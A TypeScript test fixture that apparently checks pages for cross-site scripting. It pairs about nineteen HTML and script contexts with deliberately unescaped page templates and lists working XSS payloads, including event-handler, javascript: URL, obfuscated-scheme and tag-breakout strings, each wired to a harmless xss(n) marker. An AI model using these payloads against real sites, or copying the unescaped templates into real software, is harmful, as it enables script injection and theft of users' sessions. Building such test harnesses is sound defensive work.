/** Contexts of a page in which an unescaped payload would run. */
const PLACES = {
  element: (text: string) => `<div>${text}</div>`,
  doubleQuotes: (text: string) => `<a title="${text}">x</a>`,
  singleQuotes: (text: string) => `<a title='${text}'>x</a>`,
  noQuotes: (text: string) => `<img src=${text}>`,
  link: (text: string) => `<a href="${text}">x</a>`,
  frame: (text: string) => `<iframe src="${text}"></iframe>`,
  title: (text: string) => `<title>${text}</title>`,
  textarea: (text: string) => `<textarea>${text}</textarea>`,
  style: (text: string) => `<style>${text}</style>`,
  comment: (text: string) => `<!-- ${text} -->`,
  cdata: (text: string) => `<svg><desc><![CDATA[${text}]]></desc></svg>`,
  select: (text: string) => `<select><option>${text}</option></select>`,
  script: (text: string) => `<script>var a = "${text}"</script>`,
  scriptSingle: (text: string) => `<script>var a = '${text}'</script>`,
  scriptTemplate: (text: string) => `<script>var a = \`${text}\`</script>`,
  scriptHalfEscaped: (text: string) => `<script>var a = "${text.replaceAll('"', '\\"')}"</script>`,
  decodedEntities: (text: string) => text.replace(/&lt;|&#60;/g, '<').replace(/&gt;|&#62;/g, '>'),
  decodedPercents: (text: string) => decodeURIComponent(text),
  decodedEscapes: (text: string) =>
    text.replace(/\\u(....)/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16))),
} as const;

const IN_PLACES: Readonly<Record<keyof typeof PLACES, readonly string[]>> = {
  element: [
    '<script>XSS</script>',
    '<img src=x onerror=XSS>',
    '<IMG SRC=x ONERROR=XSS>',
    '<img/src="x"/onerror=XSS>',
    '<<img src=x onerror=XSS>//',
    '<img src="x" onerror="XSS" alt="">',
    '<svg onload=XSS></svg>',
    '<svg/onload=XSS></svg>',
    '<svg><script>XSS</script></svg>',
    '<svg><animate onbegin=XSS attributeName=x dur=1s></svg>',
    '<svg><a href="javascript:XSS"><text y=20>x</text></a></svg>',
    '<iframe srcdoc="<script>parent.XSS</script>"></iframe>',
    '<iframe src="javascript:parent.XSS"></iframe>',
    '<iframe onload=XSS></iframe>',
    '<details open ontoggle=XSS>x</details>',
    '<input autofocus onfocus=XSS>',
    '<video><source onerror=XSS></video>',
    '<video src=x onerror=XSS></video>',
    '<audio src=x onerror=XSS></audio>',
    '<object data=x onerror=XSS></object>',
    '<link rel=stylesheet href=x onerror=XSS>',
    '<style onload=XSS></style>',
    '<img srcset=x onerror=XSS>',
    '<a href="javascript:XSS">x</a>',
    '<a href="java&Tab;script:XSS">x</a>',
    '<a href="&#106;avascript:XSS">x</a>',
    '<form action="javascript:XSS"><button>x</button></form>',
    '<form><button formaction="javascript:XSS">x</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=XSS>"></noscript>',
    '<p style="animation: x" onmouseover=XSS>x</p>',
    '<x contenteditable onbeforeinput=XSS>x</x>',
  ],
  doubleQuotes: ['"><script>XSS</script>', '"><img src=x onerror=XSS>', '" onmouseover="XSS'],
  singleQuotes: ["'><script>XSS</script>", "'><img src=x onerror=XSS>", "' autofocus onfocus='XSS' x='"],
  noQuotes: ['x onerror=XSS', '><svg onload=XSS></svg>'],
  link: [
    'javascript:XSS',
    'JaVaScRiPt:XSS',
    'java\tscript:XSS',
    '\u0001javascript:XSS',
    'javascript://%0aXSS',
    '" onmouseover="XSS" x="',
  ],
  frame: ['data:text/html,<script>XSS</script>'],
  title: ['</title><img src=x onerror=XSS>'],
  textarea: ['</textarea><img src=x onerror=XSS>'],
  style: ['</style><img src=x onerror=XSS>'],
  comment: ['--><img src=x onerror=XSS>', '--!><img src=x onerror=XSS>'],
  cdata: [']]></desc></svg><img src=x onerror=XSS>'],
  select: ['</option></select><img src=x onerror=XSS>'],
  script: ['</script><script>XSS</script>', '";XSS;//'],
  scriptSingle: ["';XSS;//"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one for the page that is attacked.
  scriptTemplate: ['${XSS}'],
  scriptHalfEscaped: ['\\";XSS;//'],
  decodedEntities: ['&lt;img src=x onerror=XSS&gt;', '&#60;img src=x onerror=XSS&#62;'],
  decodedPercents: ['%3Cimg%20src=x%20onerror=XSS%3E'],
  decodedEscapes: ['\\u003cimg src=x onerror=XSS\\u003e'],
};

/** An attack that reports its number to the page's `xss` function. */
export interface Payload {
  readonly number: number;
  readonly text: string;
  /** A page that is vulnerable in the context of this payload. */
  readonly carelessPage: string;
}

const listed = Object.entries(IN_PLACES) as [keyof typeof PLACES, readonly string[]][];

export const PAYLOADS: readonly Payload[] = listed
  .flatMap(([place, templates]) => templates.map((template) => ({ place, template })))
  .map(({ place, template }, at) => {
    const text = template.replace('XSS', () => `xss(${at + 1})`);
    return { number: at + 1, text, carelessPage: PLACES[place](text) };
  });

export const ALL_PAYLOADS = PAYLOADS.map(({ text }) => text).join(' ');

/** Marks the payloads with their field, so that a page reveals which fields it shows. */
export const poison = (field: string): string => ` «${field}» ${ALL_PAYLOADS}`;

/** Vulnerable pages with all payloads in one text. */
export const carelessPages = (text: string): readonly (readonly [place: string, html: string])[] =>
  (['element', 'doubleQuotes', 'singleQuotes', 'title', 'textarea', 'script', 'link'] as const).map(
    (place) => [place, PLACES[place](text)],
  );
